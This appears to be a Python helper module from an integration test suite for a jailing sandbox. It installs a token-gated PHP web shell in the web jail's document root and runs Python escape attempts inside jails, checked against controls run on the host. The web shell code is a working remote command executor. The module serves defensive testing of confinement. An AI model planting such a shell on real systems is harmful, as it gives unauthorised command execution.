"""Attacking the jails from inside, for the escape, faults and load suites.

Two ways in, both real processes of the sandbox's confinement:

* ``WebShell``: a PHP file dropped into the web application's document root, requested through
  the host's published port like any page. Apache's worker runs it as www-data, so every command
  it starts (``proc_open``) is a child of the jailed daemon: same namespaces, chroot, seccomp
  filters, capability bounding set, no_new_privs and rlimits. This is the attacker with remote
  code execution in the PHP application.
* ``jail_root``: ``jailenter.py`` on the test host enters a jail the way firejail's ``--join``
  does for a non-root user: the namespaces and root directory of a jail process, that process's
  capability bounding set, no_new_privs, rlimits and the seccomp filters firejail loaded into the
  jail (``/run/firejail/mnt/seccomp/seccomp.list`` in the jail), then runs the attempt as root
  (or another uid). A root ``firejail --join`` is never used: it skips seccomp and the capability
  drop. Every result carries the attacking process's own /proc/self/status, and the suite checks
  that it matches the daemon's confinement.

Attempts are Python snippets (python3 is in every jail's base) printing one JSON object.
"""

from __future__ import annotations

import base64
import http.client
import json
import shlex
import uuid
from pathlib import Path

from hostlib import jail_pids, public_address, push_file

HERE = Path(__file__).resolve().parent
JAILENTER = "/usr/local/lib/jailhost-test/jailenter.py"

PHP_SHELL = r"""<?php
// Test payload of tests/integration (attacklib.WebShell): runs a command as the web server's
// user inside the web jail, as an attacker with code execution in the application would.
// Removed by the suite when it ends. Answers only requests carrying the suite's token.
if (!hash_equals('@TOKEN@', $_SERVER['HTTP_X_TEST_TOKEN'] ?? '')) { http_response_code(404); exit; }
$cmd = base64_decode($_POST['cmd'] ?? '');
$input = base64_decode($_POST['stdin'] ?? '');
$proc = proc_open(['/bin/sh', '-c', $cmd], [0 => ['pipe', 'r'], 1 => ['pipe', 'w'], 2 => ['pipe', 'w']], $pipes);
fwrite($pipes[0], $input);
fclose($pipes[0]);
$out = stream_get_contents($pipes[1]);
$err = stream_get_contents($pipes[2]);
$rc = proc_close($proc);
header('Content-Type: application/json');
echo json_encode(['rc' => $rc, 'stdout' => base64_encode($out), 'stderr' => base64_encode($err)]);
"""

# Prepended to every attempt: helpers that report an errno by name instead of raising.
PRELUDE = r'''
import ctypes, errno, json, os, socket, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
out = {}
def err(e):
    if isinstance(e, TimeoutError) and e.errno is None:
        return "timeout"  # socket timeout: nothing answered (a DROP rule)
    if isinstance(e, OSError) and e.errno == errno.EOPNOTSUPP:
        return "EOPNOTSUPP"  # the same number as ENOTSUP on Linux
    if isinstance(e, OSError) and e.errno:
        return errno.errorcode.get(e.errno, str(e.errno))
    return type(e).__name__
def attempt(label, fn):
    try:
        value = fn()
        out[label] = {"ok": True, "value": value if isinstance(value, (int, str, list, dict, type(None))) else repr(value)}
    except Exception as e:  # the errno is the evidence
        out[label] = {"ok": False, "errno": err(e), "msg": str(e)}
    return out[label]
def syscall(nr, *args):
    ctypes.set_errno(0)
    rc = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    if rc == -1:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return rc
def connect(addr, port, timeout=3):
    s = socket.socket()
    s.settimeout(timeout)
    try:
        s.connect((addr, port))
        return "connected"
    finally:
        s.close()
def whoami():
    status = dict(l.split(":", 1) for l in open("/proc/self/status").read().splitlines() if ":" in l)
    return {k: status[k].strip() for k in ("Uid", "Seccomp", "Seccomp_filters", "NoNewPrivs", "CapBnd", "CapEff", "CapPrm", "CapInh", "CapAmb")}
out["self"] = whoami()
'''
EPILOGUE = "\nprint(json.dumps(out))\n"


def _decode(result: dict) -> tuple[int, str, str]:
    return (result["rc"], base64.b64decode(result["stdout"]).decode(errors="replace"),
            base64.b64decode(result["stderr"]).decode(errors="replace"))


class WebShell:
    """The PHP payload in the web jail's document root (see the module docstring)."""

    def __init__(self, host, jail_root: str, app_root: str, server_name: str):
        self.host = host
        self.token = uuid.uuid4().hex
        self.url_path = f"/jh-test-{uuid.uuid4().hex[:12]}.php"
        self.path = f"{jail_root}{app_root}{self.url_path}"
        self.server_name = server_name

    def install(self) -> None:
        marker = f"EOF_{uuid.uuid4().hex}"
        body = PHP_SHELL.replace("@TOKEN@", self.token)
        self.host.run_expect([0], f"cat > {self.path} <<'{marker}'\n{body}{marker}\nchmod 0644 {self.path}")

    def remove(self) -> None:
        self.host.run(f"rm -f {self.path}")

    def sh(self, command: str, stdin: str = "", timeout: float = 120) -> tuple[int, str, str]:
        """Run COMMAND with /bin/sh as the web server user; (rc, stdout, stderr)."""
        body = f"cmd={_b64(command)}&stdin={_b64(stdin)}"
        conn = http.client.HTTPConnection(public_address(self.host), 80, timeout=timeout)
        try:
            conn.request("POST", self.url_path, body=body, headers={
                "Host": self.server_name, "X-Test-Token": self.token,
                "Content-Type": "application/x-www-form-urlencoded"})
            resp = conn.getresponse()
            data = resp.read().decode()
        finally:
            conn.close()
        assert resp.status == 200, f"web shell answered HTTP {resp.status}: {data[:500]}"
        return _decode(json.loads(data))

    def py(self, code: str, timeout: float = 120) -> dict:
        """Run a Python attempt (PRELUDE + CODE) as the web server user; its JSON result."""
        rc, stdout, stderr = self.sh("exec python3 -", stdin=PRELUDE + code + EPILOGUE, timeout=timeout)
        assert rc == 0 and stdout.strip(), f"attempt did not run (rc {rc}): {stderr}"
        result = json.loads(stdout.strip().splitlines()[-1])
        print(f"  as www-data in the web jail: {json.dumps({k: v for k, v in result.items() if k != 'self'})}")
        return result


def _b64(text: str) -> str:
    from urllib.parse import quote
    return quote(base64.b64encode(text.encode()).decode())


def install_jailenter(host) -> None:
    host.run_expect([0], f"mkdir -p {Path(JAILENTER).parent}")
    push_file(host, HERE / "jailenter.py", JAILENTER, mode="0755")


def jail_run(host, jail: str, code: str, user: str = "root", daemon_index: int = 0, timeout: int = 60) -> dict:
    """Run a Python attempt in JAIL as USER with the confinement of the jail's daemon process."""
    _, _, daemons = jail_pids(host, jail)
    script = PRELUDE + code + EPILOGUE
    marker = f"EOF_{uuid.uuid4().hex}"
    cmd = host.run(f"timeout {timeout} {JAILENTER} {daemons[daemon_index]} {shlex.quote(user)} "
                   f"-- python3 - <<'{marker}'\n{script}{marker}")
    assert cmd.rc == 0 and cmd.stdout.strip(), f"attempt did not run (rc {cmd.rc}): {cmd.stderr}"
    result = json.loads(cmd.stdout.strip().splitlines()[-1])
    print(f"  as {user} in jail {jail}: {json.dumps({k: v for k, v in result.items() if k != 'self'})}")
    return result


def outside(host, code: str, uid: int | None = 33, wrap: str = "") -> dict:
    """CONTROL: the same attempt on the test host, outside any jail: by uid UID (33 is www-data;
    setpriv, no supplementary groups) or by root (UID None). WRAP puts a root control in throwaway
    namespaces (e.g. "unshare -m"), so that a control that succeeds changes nothing on the host."""
    user = f"setpriv --reuid={uid} --regid={uid} --clear-groups " if uid is not None else ""
    marker = f"EOF_{uuid.uuid4().hex}"
    cmd = host.run(f"cd /tmp && {wrap} {user}python3 - <<'{marker}'\n{PRELUDE}{code}{EPILOGUE}{marker}")
    assert cmd.rc == 0 and cmd.stdout.strip(), f"control did not run (rc {cmd.rc}): {cmd.stderr}"
    result = json.loads(cmd.stdout.strip().splitlines()[-1])
    who = f"uid {uid}" if uid is not None else "root"
    print(f"  control ({who} on the host, no jail{', ' + wrap if wrap else ''}): "
          f"{json.dumps({k: v for k, v in result.items() if k != 'self'})}")
    return result
